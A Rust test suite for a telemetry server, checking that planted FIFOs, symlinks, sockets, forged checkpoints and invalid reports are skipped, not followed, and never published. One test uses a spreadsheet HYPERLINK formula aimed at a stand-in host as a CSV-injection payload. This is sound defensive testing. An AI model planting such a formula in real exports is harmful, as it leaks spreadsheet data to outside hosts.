//! A store holding what no collector put there: FIFOs, sockets and links where reports,
//! checkpoints, hints and configs belong, a plain file where a week's directory belongs, reports
//! that no config allows, corrupt merges. The real `tally-server` binary must never block on
//! any of it, never follow a link out of the store, never publish what validation refuses, say
//! which file it skipped, keep serving, and stop on SIGTERM. Every wait here has a deadline, so
//! a regression fails instead of hanging.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Output, Stdio};
use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use axum::http::StatusCode;
use tally_protocol::Report;
use tally_protocol::aggregate::WeeksIndex;

use crate::support::*;

/// Longest wait for anything: a start, an answer, a stop, a command.
const DEADLINE: Duration = Duration::from_secs(15);

/// The calendar week of [`WEEK`] (a Monday).
const MONDAY: &str = "2026-11-16";

/// A `tally-server serve` on loopback, its port, and everything it has written so far.
struct Served {
    child: Child,
    port: u16,
    log: Arc<Mutex<String>>,
    /// The threads copying its output into `log`: done once it exits.
    readers: Vec<std::thread::JoinHandle<()>>,
}

impl Served {
    /// Starts the server on `store` (threshold 1, checkpoints every 50 ms); `Err` with its
    /// output if it does not listen within [`DEADLINE`].
    fn start(collector: &Collector, store: &Path, extra: &[&str]) -> Result<Served, String> {
        Served::spawn(serve_flushing(collector, store.to_str().unwrap()).args(extra))
    }

    /// Runs `command` (a `tally-server serve`); `Err` with its output if it does not listen
    /// within [`DEADLINE`].
    fn spawn(command: &mut Command) -> Result<Served, String> {
        let mut child = command
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let log = Arc::new(Mutex::new(String::new()));
        let (first_line, listening) = mpsc::channel();
        let stdout = child.stdout.take().unwrap();
        let stderr = child.stderr.take().unwrap();
        let mut readers = Vec::new();
        for (stream, first) in [
            (
                Box::new(stdout) as Box<dyn std::io::Read + Send>,
                Some(first_line),
            ),
            (Box::new(stderr), None),
        ] {
            let log = log.clone();
            readers.push(std::thread::spawn(move || {
                for line in BufReader::new(stream).lines() {
                    let Ok(line) = line else { break };
                    log.lock().unwrap().push_str(&format!("{line}\n"));
                    if let Some(port) = line.strip_prefix("tally-server: listening on port ")
                        && let Some(first) = &first
                    {
                        let _ = first.send(port.parse::<u16>().unwrap());
                    }
                }
            }));
        }
        match listening.recv_timeout(DEADLINE) {
            Ok(port) => Ok(Served {
                child,
                port,
                log,
                readers,
            }),
            Err(_) => {
                let _ = child.kill();
                let status = child.wait().unwrap();
                std::thread::sleep(Duration::from_millis(100));
                let log = log.lock().unwrap().clone();
                Err(format!(
                    "the server did not listen within {DEADLINE:?} ({status}); it wrote: {log:?}"
                ))
            }
        }
    }

    fn log(&self) -> String {
        self.log.lock().unwrap().clone()
    }

    /// `GET path`: its status and body.
    fn get(&self, path: &str) -> (u16, String) {
        self.answer(
            &format!("GET {path}"),
            agent()
                .get(&format!("http://127.0.0.1:{}{path}", self.port))
                .call(),
        )
    }

    /// Uploads `report` (its week in the path): the status and body of the answer.
    fn upload(&self, report: &Report) -> (u16, String) {
        let url = format!("http://127.0.0.1:{}/upload/{}", self.port, report.week);
        self.answer("upload", agent().post(&url).send(&body(report)[..]))
    }

    /// The status and body of `response`; a request that got no answer fails the test,
    /// naming `what` and what the server wrote.
    fn answer(
        &self,
        what: &str,
        response: Result<ureq::http::Response<ureq::Body>, ureq::Error>,
    ) -> (u16, String) {
        let mut response =
            response.unwrap_or_else(|e| panic!("{what}: {e}; the server wrote: {}", self.log()));
        let status = response.status().as_u16();
        (status, response.body_mut().read_to_string().unwrap())
    }

    /// The published weeks, as `(Monday, reports)`.
    fn weeks(&self) -> Vec<(String, u64)> {
        let (status, text) = self.get("/api/weeks");
        assert_eq!(status, 200, "{text}");
        let index: WeeksIndex = serde_json::from_str(&text).unwrap();
        index
            .weeks
            .iter()
            .map(|w| (w.week.to_string(), w.reports))
            .collect()
    }

    /// SIGTERM, then the exit status within [`DEADLINE`] (`Err` with the log if it is still
    /// running then).
    fn stop(mut self) -> Result<ExitStatus, String> {
        use nix::sys::signal::{Signal, kill};
        use nix::unistd::Pid;
        kill(Pid::from_raw(self.child.id() as i32), Signal::SIGTERM).unwrap();
        let began = Instant::now();
        while began.elapsed() < DEADLINE {
            if let Some(status) = self.child.try_wait().unwrap() {
                for reader in self.readers.drain(..) {
                    let _ = reader.join();
                }
                return Ok(status);
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        Err(format!(
            "still running {DEADLINE:?} after SIGTERM; it wrote: {:?}",
            self.log()
        ))
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `tally-server serve` on `store` (threshold 1, checkpoints every 50 ms, `TALLY_NOW`).
fn serve_flushing(collector: &Collector, store: &str) -> Command {
    let mut command = serve_command(collector, store, &collector.public_key);
    command.args(["--threshold", "1", "--flush-ms", "50"]);
    command
}

/// Runs `command` to its end, or kills it after [`DEADLINE`] (`Err`).
fn run_within_deadline(command: &mut Command) -> Result<Output, String> {
    let mut child = command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let began = Instant::now();
    while began.elapsed() < DEADLINE {
        if child.try_wait().unwrap().is_some() {
            return Ok(child.wait_with_output().unwrap());
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let _ = child.kill();
    let _ = child.wait();
    Err(format!("{command:?} was still running after {DEADLINE:?}"))
}

fn block_on<F: std::future::Future>(future: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(future)
}

/// A store as a server leaves it: 3 reports of [`WEEK`] checkpointed (generation 0 sealed,
/// checkpoint 1, its `latest` hint, the merged copy), then 2 more in the open generation 1.
fn populated(collector: &Collector, store: &Path) {
    block_on(async {
        let state = collector.state(store, 1).await.unwrap();
        for i in 0..3 {
            let r = report(0.1 + i as f64 / 10.0, "1.95.0", &[("cargo/invocations", 1)]);
            assert_eq!(upload(&state, &r).await.0, StatusCode::OK);
        }
        assert_eq!(state.flush().await.unwrap(), 1);
        for i in 0..2 {
            let r = report(0.5 + i as f64 / 10.0, "1.95.0", &[("cargo/invocations", 1)]);
            assert_eq!(upload(&state, &r).await.0, StatusCode::OK);
        }
    });
    for path in [
        "reports/2026-11-16/0/sealed",
        "reports/2026-11-16/1/2026-11-16_0.5.json",
        "merged/2026-11-16/1.json",
        "merged/2026-11-16/latest",
        "merged/2026-11-16.json",
        "configs/1.json",
    ] {
        assert!(store.join(path).is_file(), "{path}");
    }
}

fn mkfifo(path: &Path) {
    let _ = std::fs::remove_file(path);
    nix::unistd::mkfifo(
        path,
        nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR,
    )
    .unwrap();
}

/// A valid report of `week` with `x`, written to `path` in canonical form.
fn write_report(path: &Path, week: &str, x: f64) {
    let mut r = report(x, "1.95.0", &[("cargo/invocations", 7)]);
    r.week = week.parse().unwrap();
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, r.to_canonical_json()).unwrap();
}

/// One thing planted in a populated store before the server starts.
struct Planted {
    what: &'static str,
    /// What the log must name.
    path: &'static str,
    /// Words the log must say about it.
    says: &'static str,
    /// Reports of [`WEEK`] counted once the server listens.
    counted: u64,
    /// What the log says when SIGTERM's last checkpoint cannot be written (the server then
    /// stops with a failure), or `None` when it can.
    last_checkpoint_fails: Option<&'static str>,
    /// Puts it at `at` (the store's `path`), with `outside` a directory beside the store.
    plant: fn(at: &Path, outside: &Path),
}

impl Planted {
    /// Something planted at `path` that leaves all 5 reports of the [`populated`] store counted
    /// and the last checkpoint written.
    fn new(
        what: &'static str,
        path: &'static str,
        says: &'static str,
        plant: fn(at: &Path, outside: &Path),
    ) -> Planted {
        Planted {
            what,
            path,
            says,
            counted: 5,
            last_checkpoint_fails: None,
            plant,
        }
    }

    /// A FIFO at `path`, in the place of a file (see [`Planted::new`]).
    fn fifo(what: &'static str, path: &'static str) -> Planted {
        Planted::new(what, path, "FIFO", |at, _| mkfifo(at))
    }
}

/// Every planted case: the server listens within the deadline, counts what it should, names
/// what it skipped, and stops on SIGTERM. Without those checks the FIFOs hang start-up (no line
/// logged), the socket fails it, the links are followed (6 reports, and a week from outside the
/// store), and the plain file fails it with an error naming the config.
#[test]
fn nothing_planted_in_the_store_blocks_start_up_or_is_followed() {
    let cases = [
        Planted::fifo(
            "a FIFO at a report's name in the open generation",
            "reports/2026-11-16/1/2026-11-18_0.9.json",
        ),
        Planted::fifo("a FIFO at the latest hint", "merged/2026-11-16/latest"),
        Planted {
            // Rebuilt from the raw reports of both generations: still 5 counted. The checkpoint
            // SIGTERM makes is the one the FIFO holds the place of.
            last_checkpoint_fails: Some(
                "cannot write merged/2026-11-16/1.json: merged/2026-11-16/1.json is a FIFO",
            ),
            ..Planted::fifo("a FIFO at the checkpoint", "merged/2026-11-16/1.json")
        },
        Planted::fifo("a FIFO at the served config's record", "configs/1.json"),
        Planted {
            // The checkpoint's 3; the 2 of the open generation went with its directory.
            counted: 3,
            ..Planted::new(
                "a FIFO where the open generation's directory belongs",
                "reports/2026-11-16/1",
                "FIFO",
                |at, outside| {
                    std::fs::rename(at, outside.join("generation-1")).unwrap();
                    mkfifo(at);
                },
            )
        },
        Planted::new(
            "a socket at a report's name",
            "reports/2026-11-16/1/2026-11-18_0.8.json",
            "socket",
            |at, _| drop(std::os::unix::net::UnixListener::bind(at).unwrap()),
        ),
        Planted::new(
            "a link at a report's name, to a valid report outside the store",
            "reports/2026-11-16/1/2026-11-18_0.7.json",
            "symbolic link",
            |at, outside| {
                let target = outside.join("2026-11-18_0.7.json");
                write_report(&target, "2026-11-18", 0.7);
                std::os::unix::fs::symlink(target, at).unwrap();
            },
        ),
        Planted::new(
            "a link where a week's directory belongs, to a directory of reports outside",
            "reports/2026-11-09",
            "symbolic link",
            |at, outside| {
                let week = outside.join("week");
                write_report(&week.join("0/2026-11-10_0.5.json"), "2026-11-10", 0.5);
                std::os::unix::fs::symlink(week, at).unwrap();
            },
        ),
        Planted {
            // From the checkpoint; the raw reports went with the directory.
            counted: 3,
            ..Planted::new(
                "a plain file where the week's directory belongs",
                "reports/2026-11-16",
                "not a directory",
                |at, outside| {
                    std::fs::rename(at, outside.join("moved")).unwrap();
                    std::fs::write(at, "a plain file\n").unwrap();
                },
            )
        },
    ];
    let collector = Collector::new();
    let mut failures = Vec::new();
    for case in &cases {
        let store = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        populated(&collector, store.path());
        (case.plant)(&store.path().join(case.path), outside.path());
        let served = match Served::start(&collector, store.path(), &[]) {
            Ok(served) => served,
            Err(why) => {
                failures.push(format!("{}: {why}", case.what));
                continue;
            }
        };
        let weeks = served.weeks();
        if weeks != [(MONDAY.to_string(), case.counted)] {
            failures.push(format!(
                "{}: published {weeks:?}, not {} reports of {MONDAY} alone",
                case.what, case.counted
            ));
        }
        let log = served.log();
        if !log
            .lines()
            .any(|line| line.contains(case.path) && line.contains(case.says))
        {
            failures.push(format!(
                "{}: no line of the log names {} as {}: {log:?}",
                case.what, case.path, case.says
            ));
        }
        let log = served.log.clone();
        match (served.stop(), case.last_checkpoint_fails) {
            (Ok(status), None) if status.success() => {}
            (Ok(status), Some(says)) if !status.success() && log.lock().unwrap().contains(says) => {
            }
            (Ok(status), _) => failures.push(format!(
                "{}: SIGTERM: {status}; it wrote: {:?}",
                case.what,
                log.lock().unwrap()
            )),
            (Err(why), _) => failures.push(format!("{}: {why}", case.what)),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Waits until `path` is a file, or fails naming what the server wrote.
fn wait_for_file(path: &Path, served: &Served) {
    let began = Instant::now();
    while !path.is_file() {
        assert!(
            began.elapsed() < DEADLINE,
            "no {} within {DEADLINE:?}; the server wrote: {}",
            path.display(),
            served.log()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A FIFO planted at a report's name in the open generation while the server runs: the next
/// re-read of the store skips it and names it, checkpoints go on, uploads are answered, SIGTERM
/// stops the server. Without the checks, the re-read blocks holding the week: checkpoints stop
/// and SIGTERM never finishes.
#[test]
fn a_fifo_planted_while_serving_stops_neither_checkpoints_nor_sigterm() {
    let collector = Collector::new();
    let store = tempfile::tempdir().unwrap();
    populated(&collector, store.path());
    let served = Served::start(&collector, store.path(), &["--reconcile-secs", "1"]).unwrap();
    // The server's first checkpoint (of generation 1) opens generation 2.
    wait_for_file(&store.path().join("merged/2026-11-16/2.json"), &served);
    assert_eq!(served.weeks(), [(MONDAY.to_string(), 5)]);
    let open = store.path().join("reports/2026-11-16/2");
    std::fs::create_dir_all(&open).unwrap();
    mkfifo(&open.join("2026-11-18_0.9.json"));
    // Two re-reads of the store.
    std::thread::sleep(Duration::from_millis(2500));
    let r = report(0.45, "1.95.0", &[("cargo/invocations", 1)]);
    assert_eq!(served.upload(&r), (200, "stored\n".to_string()));
    wait_for_file(&store.path().join("merged/2026-11-16/3.json"), &served);
    assert_eq!(served.weeks(), [(MONDAY.to_string(), 6)]);
    let log = served.log();
    assert!(
        log.lines()
            .any(|l| l.contains("reports/2026-11-16/2/2026-11-18_0.9.json") && l.contains("FIFO")),
        "{log}"
    );
    let status = served.stop().unwrap();
    assert!(status.success(), "{status}");
    let restarted = Served::start(&collector, store.path(), &[]).unwrap();
    assert_eq!(restarted.weeks(), [(MONDAY.to_string(), 6)]);
}

/// `import` of a FIFO, named or found in a directory, or of a socket: a clear error naming it,
/// at once, nothing stored. A blocking open of the FIFO hangs it.
#[test]
fn import_refuses_fifos_and_special_files_at_once() {
    let store = tempfile::tempdir().unwrap();
    let files = tempfile::tempdir().unwrap();
    let named = files.path().join("named.json");
    mkfifo(&named);
    let dir = files.path().join("dir");
    std::fs::create_dir(&dir).unwrap();
    write_report(&dir.join("a.json"), WEEK, 0.25);
    mkfifo(&dir.join("b.json"));
    let socket = files.path().join("socket.json");
    drop(std::os::unix::net::UnixListener::bind(&socket).unwrap());
    for (path, names, says) in [
        (&named, named.clone(), "FIFO"),
        (&dir, dir.join("b.json"), "FIFO"),
        (&socket, socket.clone(), "socket"),
    ] {
        let out = run_within_deadline(
            Command::new(BIN)
                .args(["import", "--store"])
                .arg(store.path())
                .arg(path),
        )
        .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "{}: imported", path.display());
        assert!(
            err.contains(&names.display().to_string()) && err.contains(says),
            "{}: {err}",
            path.display()
        );
    }
    assert_eq!(stored_reports(store.path()), Vec::<PathBuf>::new());
}

/// Three weeks merged; one week's merged copy corrupt, another's a FIFO: `export` writes the
/// good week, names both bad ones and their files, and exits with a failure. Without the
/// checks, the FIFO blocks it, and the corrupt week alone aborts the whole export.
#[test]
fn export_skips_and_names_unreadable_weeks_and_exports_the_rest() {
    let collector = Collector::new();
    let store = tempfile::tempdir().unwrap();
    block_on(async {
        let state = collector.state(store.path(), 1).await.unwrap();
        for week in ["2026-11-04", "2026-11-10", "2026-11-17"] {
            let mut r = report(0.5, "1.95.0", &[("cargo/invocations", 1)]);
            r.week = week.parse().unwrap();
            assert_eq!(upload(&state, &r).await.0, StatusCode::OK);
        }
        assert_eq!(state.flush().await.unwrap(), 3);
    });
    std::fs::write(
        store.path().join("merged/2026-11-02.json"),
        "{\"week\": tru",
    )
    .unwrap();
    mkfifo(&store.path().join("merged/2026-11-09.json"));
    export_skipping(
        &mut Command::new(BIN),
        store.path().to_str().unwrap(),
        "json",
        &[
            ("2026-11-02", "merged/2026-11-02.json", "does not parse"),
            ("2026-11-09", "merged/2026-11-09.json", "FIFO"),
        ],
    );
}

/// Runs `command` as `export --since 2026-11-02 --threshold 1 --format <format> --store
/// <store>` into a fresh directory and checks that it fails, writes the week of [`MONDAY`]
/// alone, and names each skipped `(week, file, reason)` on one line of its stderr.
fn export_skipping(
    command: &mut Command,
    store: &str,
    format: &str,
    skipped: &[(&str, &str, &str)],
) {
    let out_dir = tempfile::tempdir().unwrap();
    let out = run_within_deadline(
        command
            .args(["export", "--since", "2026-11-02", "--threshold", "1"])
            .args(["--format", format, "--store", store])
            .arg("--out")
            .arg(out_dir.path())
            .env("TALLY_NOW", TODAY),
    )
    .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    let written: Vec<String> = std::fs::read_dir(out_dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(written, [format!("{MONDAY}.{format}")], "{err}");
    for (week, file, says) in skipped {
        assert!(
            err.lines()
                .any(|l| l.contains(week) && l.contains(file) && l.contains(says)),
            "{week}: {err}"
        );
    }
}

/// Every public output of a server on `store` (threshold 1), concatenated.
async fn everything_published(state: &tally_server::AppState) -> String {
    let mut all = String::new();
    for path in [
        "/".to_string(),
        "/api/weeks".to_string(),
        format!("/api/weeks/{MONDAY}/cargo"),
        format!("/data/{MONDAY}.json"),
        format!("/data/{MONDAY}.csv"),
        "/data/".to_string(),
        "/programs/cargo".to_string(),
        "/status".to_string(),
    ] {
        let (_, bytes) = call(state, "GET", &path, vec![]).await;
        all.push_str(&String::from_utf8_lossy(&bytes));
    }
    // Its own pages are not found (they name the program asked for, as any 404 page would).
    for path in [
        format!("/api/weeks/{MONDAY}/zqsecret-prog"),
        "/programs/zqsecret-prog".to_string(),
    ] {
        assert_eq!(
            call(state, "GET", &path, vec![]).await.0,
            StatusCode::NOT_FOUND
        );
    }
    all
}

/// Reports planted in the store that upload would refuse (a program, a counter and a version
/// no config allows, a report without a config version), and a link to a valid report outside
/// the store: none is counted or published, at start-up, in a checkpoint, or after a restart.
/// Without the checks at load, all five are counted and `zqsecret` is on `/api`, `/data` and
/// the dashboard.
#[tokio::test]
async fn stored_reports_are_checked_again_when_loaded() {
    let collector = Collector::new();
    let store = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    {
        let state = collector.state(store.path(), 1).await.unwrap();
        for x in [0.1, 0.2] {
            let r = report(x, "1.95.0", &[("cargo/invocations", 1)]);
            assert_eq!(upload(&state, &r).await.0, StatusCode::OK);
        }
    }
    let generation = store.path().join("reports/2026-11-16/0");
    let plant = |x: f64, change: &dyn Fn(&mut Report)| {
        let mut r = report(x, "1.95.0", &[("cargo/invocations", 1)]);
        change(&mut r);
        let key = tally_server::store::report_key(r.week, r.x, 0);
        std::fs::write(store.path().join(key.as_ref()), r.to_canonical_json()).unwrap();
    };
    plant(0.31, &|r| r.programs[0].program = "zqsecret-prog".into());
    plant(0.32, &|r| {
        r.programs[0].counters.insert("zqsecret/counter".into(), 3);
    });
    plant(0.33, &|r| r.programs[0].version = "zqsecret".into());
    plant(0.34, &|r| r.config_version = None);
    write_report(&outside.path().join("outside.json"), WEEK, 0.35);
    std::os::unix::fs::symlink(
        outside.path().join("outside.json"),
        generation.join("2026-11-16_0.35.json"),
    )
    .unwrap();

    for round in ["start-up", "checkpoint", "restart"] {
        let state = collector.state(store.path(), 1).await.unwrap();
        if round == "checkpoint" {
            state.flush().await.unwrap();
        }
        let index = state.weeks_index();
        assert_eq!(index.weeks.len(), 1, "{round}");
        assert_eq!(index.weeks[0].reports, 2, "{round}: {index:?}");
        assert_eq!(index.weeks[0].programs.len(), 1, "{round}: {index:?}");
        let published = everything_published(&state).await;
        assert!(
            !published.contains("zqsecret"),
            "{round}: published a refused report"
        );
        assert!(published.contains("cargo/invocations"), "{round}");
    }
    assert!(outside.path().join("outside.json").is_file());
}

/// `tally-server import` with a report file.
fn import(store: &Path, file: &Path) -> Output {
    run_within_deadline(
        Command::new(BIN)
            .args(["import", "--store"])
            .arg(store)
            .arg(file),
    )
    .unwrap()
}

/// `import` checks what upload checks: a version that is not canonical, a 100 KB counter name,
/// a counter that is a spreadsheet formula, a program no config names, a report without a
/// config version. Into a store that served the config, each is refused as upload refuses it;
/// into a fresh store (no config to check against yet, as in `tally demo`), by the rules every
/// config shares, and a server counts nothing its config does not allow. Without the checks,
/// all are imported, and the formula reaches the CSV download as it is.
#[test]
fn import_applies_the_checks_of_upload() {
    let collector = Collector::new();
    let files = tempfile::tempdir().unwrap();
    let write = |name: &str, x: f64, change: &dyn Fn(&mut Report)| -> PathBuf {
        let mut r = report(x, "1.95.0", &[("cargo/invocations", 1)]);
        change(&mut r);
        let path = files.path().join(name);
        std::fs::write(&path, r.to_canonical_json()).unwrap();
        path
    };
    let formula = "=HYPERLINK(\"https://zqsecret.example/?\"&A1,\"zqsecret\")";
    let bad = [
        (
            write("version.json", 0.5, &|r| {
                r.programs[0].version = "zqsecret".into()
            }),
            "version \"zqsecret\"",
        ),
        (
            write("long.json", 0.5, &|r| {
                r.programs[0]
                    .counters
                    .insert(format!("cargo/{}", "z".repeat(100_000)), 1);
            }),
            "counter",
        ),
        (
            write("formula.json", 0.5, &|r| {
                r.programs[0].counters.insert(formula.into(), 1);
            }),
            "counter",
        ),
        (
            write("program.json", 0.5, &|r| {
                r.programs[0].program = "zqsecret-prog".into()
            }),
            "zqsecret-prog",
        ),
        (
            write("local.json", 0.5, &|r| r.config_version = None),
            "config_version",
        ),
    ];
    let good = write("good.json", 0.6, &|_| {});

    let served = tempfile::tempdir().unwrap();
    block_on(async {
        collector.state(served.path(), 1).await.unwrap();
    });
    let fresh = tempfile::tempdir().unwrap();
    for (store, kind) in [(served.path(), "served"), (fresh.path(), "fresh")] {
        for (file, says) in &bad {
            // A program no config names passes the rules every config shares.
            if kind == "fresh" && file.ends_with("program.json") {
                continue;
            }
            let out = import(store, file);
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(
                !out.status.success(),
                "{kind}: {} was imported",
                file.display()
            );
            assert!(
                err.contains(&file.display().to_string()) && err.contains(says),
                "{kind}: {err}"
            );
            assert!(err.len() < 1000, "{kind}: {} bytes of error", err.len());
        }
        assert_eq!(stored_reports(store), Vec::<PathBuf>::new(), "{kind}");
        let out = import(store, &good);
        assert!(
            out.status.success(),
            "{kind}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // Into the fresh store: a program the config does not name is imported, and not counted.
    let out = import(fresh.path(), &files.path().join("program.json"));
    assert!(out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("not checked against"),
        "{out:?}"
    );
    block_on(async {
        let state = collector.state(fresh.path(), 1).await.unwrap();
        // The good report alone.
        assert_eq!(state.weeks_index().weeks[0].reports, 1);
        assert!(!everything_published(&state).await.contains("zqsecret"));
    });
}

/// The `s3://` store at `prefix` of the test bucket, on a moto server of its own.
struct MotoStore {
    _moto: crate::s3::Reaped,
    endpoint: String,
    prefix: &'static str,
    /// `s3://<bucket>/<prefix>`, as `--store` takes it.
    url: String,
}

impl MotoStore {
    /// `None` (the test then passes without running, as every S3 test does) where moto is not
    /// installed.
    fn start(prefix: &'static str) -> Option<MotoStore> {
        let (moto, endpoint) = crate::s3::start_moto()?;
        Some(MotoStore {
            _moto: moto,
            endpoint,
            prefix,
            url: format!("s3://{}/{prefix}", crate::s3::BUCKET),
        })
    }

    /// `command` pointed at this moto server.
    fn on<'a>(&self, command: &'a mut Command) -> &'a mut Command {
        command
            .envs(tally_test_support::moto::moto_env(&self.endpoint))
            .env_remove("AWS_ENDPOINT")
    }

    /// A `tally-server serve` on this store (see [`serve_flushing`]).
    fn serve(&self, collector: &Collector) -> Served {
        Served::spawn(self.on(&mut serve_flushing(collector, &self.url))).unwrap()
    }

    /// Writes `bytes` at `key` below the store's prefix, as anyone with write access to the
    /// bucket could.
    fn put(&self, key: &str, bytes: &[u8]) {
        use object_store::ObjectStore;
        let bucket = object_store::aws::AmazonS3Builder::new()
            .with_bucket_name(crate::s3::BUCKET)
            .with_endpoint(&self.endpoint)
            .with_allow_http(true)
            .with_region("us-east-1")
            .with_access_key_id("testing")
            .with_secret_access_key("testing")
            .build()
            .unwrap();
        let key = object_store::path::Path::from(format!("{}/{key}", self.prefix));
        block_on(bucket.put(&key, bytes.to_vec().into())).unwrap();
    }
}

/// On S3 (moto) there are no FIFOs or links, but the same checks apply to what there is:
/// objects planted at a report's key are checked as an upload is (a program no config allows
/// is not counted or published), and objects over the size a report or a hint can have are
/// skipped, named in the log, without being read. Without the checks, the planted report is
/// counted and published, and every object read whole whatever its size.
#[test]
fn objects_planted_on_s3_are_checked_and_bounded() {
    let Some(store) = MotoStore::start("collector/planted") else {
        return;
    };
    let collector = Collector::new();
    let served = store.serve(&collector);
    for x in [0.1, 0.2] {
        let r = report(x, "1.95.0", &[("cargo/invocations", 1)]);
        assert_eq!(served.upload(&r).0, 200);
    }
    drop(served); // SIGKILL: no checkpoint; the restart reads the raw reports.

    let mut secret = report(0.31, "1.95.0", &[("cargo/invocations", 1)]);
    secret.programs[0].program = "zqsecret-prog".into();
    let key = tally_server::store::report_key(secret.week, secret.x, 0);
    store.put(key.as_ref(), &secret.to_canonical_json());
    // A valid report, padded past the size any stored report has.
    let mut padded = report(0.36, "1.95.0", &[("cargo/invocations", 1)]).to_canonical_json();
    padded.extend(std::iter::repeat_n(
        b' ',
        tally_server::store::MAX_STORED_REPORT_BYTES,
    ));
    let padded_key = tally_server::store::report_key(WEEK.parse().unwrap(), 0.36, 0);
    store.put(padded_key.as_ref(), &padded);
    let latest = vec![b'1'; 1024 * 1024];
    store.put(&format!("merged/{MONDAY}/latest"), &latest);

    let served = store.serve(&collector);
    assert_eq!(served.weeks(), [(MONDAY.to_string(), 2)]);
    let mut published = String::new();
    for path in [
        "/api/weeks".to_string(),
        format!("/data/{MONDAY}.csv"),
        "/programs/cargo".to_string(),
        "/".to_string(),
    ] {
        published.push_str(&served.get(&path).1);
    }
    assert!(
        !published.contains("zqsecret"),
        "published a refused report"
    );
    let log = served.log();
    for (key, says) in [
        (padded_key.to_string(), "bytes"),
        (format!("merged/{MONDAY}/latest"), "bytes"),
        (key.to_string(), "zqsecret-prog"),
    ] {
        assert!(
            log.lines().any(|l| l.contains(&key) && l.contains(says)),
            "{key}: {log}"
        );
    }
    assert!(served.stop().unwrap().success());
}

/// `export` from S3 with one week's merged copy corrupt: the other week is exported, the bad
/// one named with its key, and the command fails. Without the skip, the one corrupt week aborts
/// it.
#[test]
fn export_from_s3_skips_and_names_a_corrupt_week() {
    let Some(store) = MotoStore::start("collector/export") else {
        return;
    };
    let collector = Collector::new();
    let served = store.serve(&collector);
    for week in ["2026-11-04", "2026-11-17"] {
        let mut r = report(0.5, "1.95.0", &[("cargo/invocations", 1)]);
        r.week = week.parse().unwrap();
        assert_eq!(served.upload(&r).0, 200);
    }
    // SIGTERM: the last checkpoint and the merged copies are written.
    assert!(served.stop().unwrap().success());
    store.put("merged/2026-11-02.json", b"{\"week\": tru");
    export_skipping(
        store.on(&mut Command::new(BIN)),
        &store.url,
        "csv",
        &[("2026-11-02", "merged/2026-11-02.json", "does not parse")],
    );
}

/// SIGTERM as soon as the server says it listens: it stops cleanly ("stopped", status 0), its
/// last checkpoint written, every time. With the handler installed only once the accept loop
/// first runs, a SIGTERM in between kills the server outright (17 times in 40).
#[test]
fn sigterm_right_after_start_stops_the_server_cleanly() {
    let collector = Collector::new();
    let store = tempfile::tempdir().unwrap();
    populated(&collector, store.path());
    let mut killed = Vec::new();
    for round in 0..20 {
        let served = Served::start(&collector, store.path(), &[]).unwrap();
        let log = served.log.clone();
        let status = served.stop().unwrap();
        let log = log.lock().unwrap().clone();
        if !status.success() || !log.contains("tally-server: stopped") {
            killed.push(format!("round {round}: {status}: {log:?}"));
        }
    }
    assert!(killed.is_empty(), "{}", killed.join("\n"));
    assert!(store.path().join("merged/2026-11-16/2.json").is_file());
}

/// A checkpoint planted in the store that parses and adds up, but holds a program no config
/// collects, is not adopted: the week is rebuilt from its raw reports, and nothing of it is
/// published; `export` skips a merged copy holding the same, naming it. Without the check, the
/// checkpoint is adopted as it is and `zqsecret-prog` published.
#[test]
fn a_planted_checkpoint_or_merge_is_checked_too() {
    let collector = Collector::new();
    let store = tempfile::tempdir().unwrap();
    populated(&collector, store.path());
    let monday: tally_protocol::Day = MONDAY.parse().unwrap();
    let path = store.path().join("merged/2026-11-16/1.json");
    let mut checkpoint =
        tally_server::checkpoint::Checkpoint::parse(&std::fs::read(&path).unwrap(), monday, 1)
            .unwrap();
    let mut secret = report(0.95, "1.95.0", &[("cargo/invocations", 1)]);
    secret.programs[0].program = "zqsecret-prog".into();
    checkpoint.merged.add(&secret);
    checkpoint
        .ids
        .insert(tally_server::checkpoint::report_id(secret.week, secret.x));
    std::fs::write(&path, checkpoint.to_bytes()).unwrap();
    let mut merged = checkpoint.merged.clone();
    merged.add(&report(0.96, "1.95.0", &[("cargo/invocations", 1)]));
    std::fs::write(
        store.path().join("merged/2026-11-16.json"),
        serde_json::to_vec(&merged).unwrap(),
    )
    .unwrap();

    block_on(async {
        let state = collector.state(store.path(), 1).await.unwrap();
        assert_eq!(state.weeks_index().weeks[0].reports, 5);
        assert!(!everything_published(&state).await.contains("zqsecret"));
    });

    let out = run_within_deadline(
        Command::new(BIN)
            .args(["export", "--since", MONDAY, "--threshold", "1"])
            .args(["--format", "json", "--store"])
            .arg(store.path())
            .env("TALLY_NOW", TODAY),
    )
    .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("zqsecret"));
    assert!(
        err.lines().any(|l| l.contains("merged/2026-11-16.json")
            && l.contains("zqsecret-prog")
            && l.contains("no config")),
        "{err}"
    );
}
